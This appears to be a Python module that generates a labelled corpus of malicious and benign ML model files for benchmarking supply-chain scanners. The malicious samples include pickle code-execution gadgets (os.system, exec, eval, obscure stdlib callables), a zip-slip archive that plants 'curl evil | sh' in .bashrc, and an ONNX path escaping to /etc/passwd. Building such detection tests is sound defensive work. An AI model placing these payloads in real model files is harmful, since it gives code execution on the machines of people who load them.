"""The scanner corpus, built on the spot: malicious model files and benign ones of every flavor.

``build_corpus(folder)`` writes every file (or model folder) under ``folder`` and returns
{relative name: True when malicious}. Nothing here runs a payload: ``pickle.dumps`` of an object
whose ``__reduce__`` names a callable only records the name. The benchmark (bench/bench_supply.py)
scans the same corpus with picklescan and modelscan.
"""

from __future__ import annotations

import builtins
import cProfile
import imaplib
import io
import json
import logging
import os
import pickle
import pydoc
import runpy
import struct
import subprocess
import timeit
import uuid
import zipfile
from pathlib import Path
from typing import Any


class Reduce:
    """Pickles as ``fn(*args)``: the shape of every code-running pickle."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.fn, self.args)


GADGETS: dict[str, tuple[Any, tuple[Any, ...]]] = {
    "gadget_uuid.pkl": (uuid._get_command_stdout, ("id",)),
    "gadget_imaplib.pkl": (imaplib.IMAP4_stream, ("id",)),
    "gadget_pydoc.pkl": (pydoc.pipepager, ("x", "id")),
    "gadget_timeit.pkl": (timeit.timeit, ("__import__('os').system('id')",)),
    "gadget_cprofile.pkl": (cProfile.run, ("__import__('os').system('id')",)),
    "gadget_logging.pkl": (logging.FileHandler, ("/tmp/shipyard-corpus-truncated",)),
    "os_system.pkl": (os.system, ("id",)),
    "subprocess_check_output.pkl": (subprocess.check_output, (["id"],)),
    "builtins_exec.pkl": (builtins.exec, ("import os; os.system('id')",)),
    "builtins_eval.pkl": (builtins.eval, ("__import__('os').system('id')",)),
    "runpy_run_code.pkl": (runpy._run_code, ("import os", {})),
}
# getattr(__import__("os"), "system")("id"), written by hand: a call of a call's result
REDUCE_CHAIN = (b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(X\x02\x00\x00\x00ostRX\x06\x00\x00\x00systemtR"
                b"(X\x02\x00\x00\x00idtR.")


def _sample() -> tuple[Any, Any, Any]:
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame(rng.normal(size=(80, 4)), columns=["a", "b", "c", "d"])
    return frame, (frame["a"] + frame["b"] > 0).astype(int), rng


def _malicious(root: Path) -> dict[str, bool]:
    import joblib
    import numpy as np

    out: dict[str, bool] = {}
    for name, (fn, args) in GADGETS.items():
        (root / name).write_bytes(pickle.dumps(Reduce(fn, args), protocol=4))
        out[name] = True
    (root / "os_system_protocol0.pkl").write_bytes(pickle.dumps(Reduce(os.system, ("id",)), protocol=0))
    (root / "reduce_chain.pkl").write_bytes(REDUCE_CHAIN)
    joblib.dump({"weights": np.arange(4.0), "hook": Reduce(os.system, ("id",))}, root / "top_level.joblib")
    nested = {"weights": np.arange(8.0), "objects": np.array([Reduce(os.system, ("id",)), "x"], dtype=object)}
    joblib.dump(nested, root / "nested_object_array.joblib")
    joblib.dump(nested, root / "nested_compressed.joblib", compress=3)
    with zipfile.ZipFile(root / "torch_like.pt", "w") as archive:   # PyTorch's archive layout
        archive.writestr("archive/data.pkl", pickle.dumps(Reduce(builtins.eval, ("1",)), protocol=2))
        archive.writestr("archive/version", "3\n")
    with zipfile.ZipFile(root / "zip_slip.zip", "w") as archive:
        archive.writestr("model/weights.bin", b"\0" * 16)
        archive.writestr("../../home/user/.bashrc", b"curl evil | sh\n")
    out.update(dict.fromkeys(["os_system_protocol0.pkl", "reduce_chain.pkl", "top_level.joblib",
                              "nested_object_array.joblib", "nested_compressed.joblib", "torch_like.pt",
                              "zip_slip.zip"], True))
    out.update(_malicious_formats(root))
    return out


def _malicious_formats(root: Path) -> dict[str, bool]:
    import onnx
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0])
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "8")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [tensor])
    (root / "external_escape.onnx").write_bytes(helper.make_model(graph).SerializeToString())
    header = json.dumps({"w": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 4000000]}}).encode()
    (root / "lying_header.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + b"\0" * 16)
    config = {"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAA", None, None]}}]}}
    with zipfile.ZipFile(root / "lambda.keras", "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", "{}")
    # an HDF5 Keras file keeps its config as a JSON string attribute (h5py is not needed to see it)
    (root / "lambda.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + b"model_config" + json.dumps(config).encode())
    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    sio.dump(FunctionTransformer(func=os.system), root / "untrusted_function.skops")
    del onnx
    return dict.fromkeys(["external_escape.onnx", "lying_header.safetensors", "lambda.keras", "lambda.h5",
                          "untrusted_function.skops"], True)


def _benign(root: Path) -> dict[str, bool]:
    import joblib
    import lightgbm
    import numpy as np
    import skops.io as sio
    import xgboost
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    X, y, _ = _sample()
    forest = RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y)
    pipeline = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    boosted = GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y)
    sio.dump(forest, root / "forest.skops")
    (root / "forest.pkl").write_bytes(pickle.dumps(forest, protocol=5))
    (root / "pipeline_protocol2.pkl").write_bytes(pickle.dumps(pipeline, protocol=2))
    joblib.dump(boosted, root / "boosted.joblib")
    joblib.dump(pipeline, root / "pipeline_compressed.joblib", compress=3)
    joblib.dump({"labels": np.array(["a", "b"], dtype=object), "w": np.ones(3)}, root / "object_array.joblib")
    (root / "frame.pkl").write_bytes(pickle.dumps(X))
    xgb = xgboost.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y)
    xgb.save_model(root / "booster.ubj")
    xgb.save_model(root / "booster.json")
    joblib.dump(xgb, root / "xgb_sklearn.joblib")
    lgbm = lightgbm.LGBMClassifier(n_estimators=3, verbose=-1).fit(X, y)
    lgbm.booster_.save_model(str(root / "lightgbm.txt"))
    (root / "lgbm_sklearn.pkl").write_bytes(pickle.dumps(lgbm))
    out = dict.fromkeys(["forest.skops", "forest.pkl", "pipeline_protocol2.pkl", "boosted.joblib",
                         "pipeline_compressed.joblib", "object_array.joblib", "frame.pkl", "booster.ubj",
                         "booster.json", "xgb_sklearn.joblib", "lightgbm.txt", "lgbm_sklearn.pkl"], False)
    out.update(_benign_formats(root, pipeline, X))
    return out


def _benign_formats(root: Path, pipeline: Any, X: Any) -> dict[str, bool]:
    import mlflow.sklearn
    from skl2onnx import to_onnx

    onx = to_onnx(pipeline, X.to_numpy()[:1].astype("float32"), options={"zipmap": False})
    (root / "pipeline.onnx").write_bytes(onx.SerializeToString())
    mlflow.sklearn.save_model(pipeline, str(root / "mlflow_pyfunc"), serialization_format="cloudpickle",
                              pip_requirements=["scikit-learn"])  # no environment inference (slow)
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "__metadata__": {"format": "pt"}}).encode()
    (root / "weights.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4))
    with zipfile.ZipFile(root / "dense.keras", "w") as archive:
        archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {
            "layers": [{"class_name": "Dense", "config": {"units": 2}}]}}))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model/data.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=2))
    (root / "archive_with_pickle.zip").write_bytes(buffer.getvalue())
    return dict.fromkeys(["pipeline.onnx", "mlflow_pyfunc", "weights.safetensors", "dense.keras",
                          "archive_with_pickle.zip"], False)


def build_corpus(folder: Path) -> dict[str, bool]:
    """Write the corpus under ``folder``; {name: malicious}."""
    folder.mkdir(parents=True, exist_ok=True)
    return {**_malicious(folder), **_benign(folder)}
